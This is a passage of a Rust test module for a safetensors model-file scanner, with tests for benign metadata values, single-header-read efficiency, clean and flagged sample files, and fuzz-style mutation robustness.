            "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4nICIsIxwcKDcpLDAxNDQ0Hyc5PTgyPC4zNDL/",
            r"C:\models\x",
        ] {
            let h = format!(r#"{{"__metadata__":{{"k":{}}}}}"#, serde_json::to_string(value).unwrap());
            assert!(run(&file(&h, 0)).1.is_empty(), "{value}");
        }
    }

    /// A huge sparse source that counts the bytes it hands out.
    struct Counting {
        head: Vec<u8>,
        len: u64,
        read: AtomicU64,
    }

    impl Source for Counting {
        fn len(&self) -> u64 {
            self.len
        }
        fn read_at(&self, offset: u64, buf: &mut [u8]) -> std::io::Result<usize> {
            if offset >= self.len {
                return Ok(0);
            }
            let n = buf.len().min((self.len - offset) as usize);
            for (i, b) in buf[..n].iter_mut().enumerate() {
                *b = self.head.get(offset as usize + i).copied().unwrap_or(0);
            }
            self.read.fetch_add(n as u64, Ordering::Relaxed);
            Ok(n)
        }
    }

    #[test]
    fn a_10_gb_file_costs_one_header_read() {
        let data = 10u64 << 30;
        let h = format!(r#"{{"__metadata__":{{"format":"pt"}},"w":{{"dtype":"U8","shape":[{data}],"data_offsets":[0,{data}]}}}}"#);
        let mut head = (h.len() as u64).to_le_bytes().to_vec();
        head.extend_from_slice(h.as_bytes());
        let src = Counting { len: head.len() as u64 + data, head, read: AtomicU64::new(0) };
        let (hdr, f) = analyse(&src, &StLimits::default());
        assert!(f.is_empty(), "{f:?}");
        assert_eq!(hdr.unwrap().parameters, u128::from(data));
        assert_eq!(src.read.load(Ordering::Relaxed), 8 + h.len() as u64);
    }

    fn crate_dir() -> PathBuf {
        PathBuf::from(env!("CARGO_MANIFEST_DIR"))
    }

    #[test]
    fn real_writer_fixture_is_clean() {
        // Written by safetensors.numpy.save_file (tests/data/safetensors/make_fixture.py).
        let p = crate_dir().join("tests/data/safetensors/benign_numpy.safetensors");
        let bytes = std::fs::read(&p).unwrap_or_else(|e| panic!("fixture {}: {e}", p.display()));
        let (h, f) = run(&bytes);
        assert!(f.is_empty(), "{f:?}");
        let h = h.unwrap();
        assert_eq!(h.tensors.len(), 3);
        assert!(h.metadata.iter().any(|(k, v)| k == "format" && v == "np"));
    }

    #[test]
    fn corpus_samples() {
        let dir = crate_dir().join("../../../shared/corpus/models/modelaudit/samples/safetensors");
        assert!(dir.is_dir(), "test data not found: looked for {} (../shared/corpus must sit beside the repository)", dir.display());
        let mut seen = 0;
        for entry in std::fs::read_dir(&dir).unwrap() {
            let p = entry.unwrap().path();
            if p.extension().is_none_or(|e| e != "safetensors") {
                continue;
            }
            seen += 1;
            let (h, f) = run(&std::fs::read(&p).unwrap());
            assert!(h.is_some(), "{}", p.display());
            let name = p.file_name().unwrap().to_string_lossy();
            if name == "safe_model.safetensors" {
                assert!(f.is_empty(), "{name}: {f:?}");
            } else {
                assert!(f.iter().any(|f| f.rule.code == "VCH-ST-003"), "{name}: {f:?}");
                assert!(f.iter().all(|f| f.rule.code == "VCH-ST-003"), "{name}: {f:?}");
            }
        }
        assert_eq!(seen, 7, "expected the seven modelaudit safetensors samples in {}", dir.display());
    }

    #[test]
    fn mutations_never_panic() {
        let header = r#"{"__metadata__":{"format":"pt","u":"https://x"},"a":{"dtype":"F32","shape":[2,1],"data_offsets":[0,8]},"b":{"dtype":"F4","shape":[4],"data_offsets":[8,10]}}"#;
        let mut next = crate::testutil::xorshift(0x9e37_79b9_7f4a_7c15);
        for i in 0..20_000 {
            // Half the runs mutate the JSON and keep the length prefix right, so the mutants
            // reach the entry and span checks instead of failing at the prefix.
            let mut m = if i % 2 == 0 { header.as_bytes().to_vec() } else { file(header, 10) };
            crate::testutil::mutate_with(&mut m, &mut next, b"{}[]\":,09-e");
            if i % 2 == 0 {
                let mut f = (m.len() as u64).to_le_bytes().to_vec();
                f.extend_from_slice(&m);
                f.extend(std::iter::repeat_n(0u8, (next() % 16) as usize));
                m = f;
            }
            let _ = run(&m);
        }
    }
}
